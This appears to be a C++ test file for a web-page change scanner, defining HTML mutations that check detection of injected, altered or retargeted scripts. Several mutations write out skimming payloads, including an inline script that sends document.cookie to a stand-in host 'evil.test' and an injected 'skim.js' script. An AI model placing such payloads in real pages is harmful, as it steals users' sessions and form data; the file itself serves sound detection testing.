#include <string>

#include "tests/run/diff/corpus/mutations.h"

namespace pagescan::test {
namespace {

constexpr std::string_view kVendor =
    "<script src=\"https://cdn.example/lib-3.6.0/vendor.js\" "
    "integrity=\"sha384-AAAA\" crossorigin=\"anonymous\"></script>";

void add_vendor(PageState& page) { append_to_body(page.html, kVendor); }

void add_inline(PageState& page) {
  append_to_body(page.html,
                 "<script>var shop_q7 = start(\"shop\"); shop_q7.run();"
                 "</script>");
}

bool inject_script(PageState& page, const ScanResult& /*scanned*/,
                   std::mt19937& /*random*/) {
  append_to_body(page.html,
                 "<script src=\"https://evil.test/skim.js\"></script>");
  return true;
}

bool inject_inline(PageState& page, const ScanResult& /*scanned*/,
                   std::mt19937& /*random*/) {
  append_to_body(page.html,
                 "<script>new Image().src = \"//evil.test/\" + "
                 "document.cookie;</script>");
  return true;
}

bool edit_inline(PageState& page, const ScanResult& /*scanned*/,
                 std::mt19937& /*random*/) {
  return replace_last(page.html, "shop_q7.run();",
                      "shop_q7.run(document.forms);");
}

bool remove_inline(PageState& page, const ScanResult& /*scanned*/,
                   std::mt19937& /*random*/) {
  return replace_last(page.html,
                      "<script>var shop_q7 = start(\"shop\"); shop_q7.run();"
                      "</script>",
                      "");
}

bool remove_integrity(PageState& page, const ScanResult& /*scanned*/,
                      std::mt19937& /*random*/) {
  return replace_last(page.html, " integrity=\"sha384-AAAA\"", "");
}

bool change_integrity(PageState& page, const ScanResult& /*scanned*/,
                      std::mt19937& /*random*/) {
  return replace_last(page.html, "sha384-AAAA", "sha384-BBBB");
}

bool update_vendor(PageState& page, const ScanResult& /*scanned*/,
                   std::mt19937& /*random*/) {
  return replace_last(page.html, "lib-3.6.0/vendor.js", "lib-3.7.1/vendor.js");
}

bool move_vendor(PageState& page, const ScanResult& /*scanned*/,
                 std::mt19937& /*random*/) {
  return replace_last(page.html, "https://cdn.example/lib",
                      "https://evil.test/lib");
}

bool remove_vendor(PageState& page, const ScanResult& /*scanned*/,
                   std::mt19937& /*random*/) {
  return replace_last(page.html, kVendor, "");
}

bool remove_crossorigin(PageState& page, const ScanResult& /*scanned*/,
                        std::mt19937& /*random*/) {
  return replace_last(page.html, " crossorigin=\"anonymous\"", "");
}

bool add_handler(PageState& page, const ScanResult& /*scanned*/,
                 std::mt19937& /*random*/) {
  const size_t at = page.html.find("<body");
  return at != std::string::npos &&
         set_attribute(page.html, at, "onpageshow", "skim_q7(this)");
}

bool add_javascript_url(PageState& page, const ScanResult& /*scanned*/,
                        std::mt19937& /*random*/) {
  append_to_body(page.html, "<a href=\"javascript:skim_q7()\"></a>");
  return true;
}

}  // namespace

std::span<const Mutation> script_mutations() {
  static const std::vector<Mutation> kMutations = {
      {"script of another site injected",
       {"script_added"},
       {},
       nullptr,
       inject_script},
      {"inline script injected",
       {"inline_script_added"},
       {},
       nullptr,
       inject_inline},
      {"inline script changed",
       {"inline_script_changed"},
       {},
       add_inline,
       edit_inline},
      {"inline script removed",
       {"inline_script_removed"},
       {},
       add_inline,
       remove_inline},
      {"integrity removed",
       {"script_changed"},
       {},
       add_vendor,
       remove_integrity},
      {"integrity changed",
       {"script_changed"},
       {},
       add_vendor,
       change_integrity},
      {"script updated", {"script_updated"}, {}, add_vendor, update_vendor},
      {"script from another host",
       {"script_retargeted"},
       {},
       add_vendor,
       move_vendor},
      {"script removed", {"script_removed"}, {}, add_vendor, remove_vendor},
      {"crossorigin removed",
       {"script_changed"},
       {},
       add_vendor,
       remove_crossorigin},
      {"event handler added",
       {"event_handler_added"},
       {},
       nullptr,
       add_handler},
      {"javascript URL added",
       {"javascript_url_added", "link_added"},
       {"link_added", "javascript_url_added"},
       nullptr,
       add_javascript_url},
  };
  return kMutations;
}

}  // namespace pagescan::test
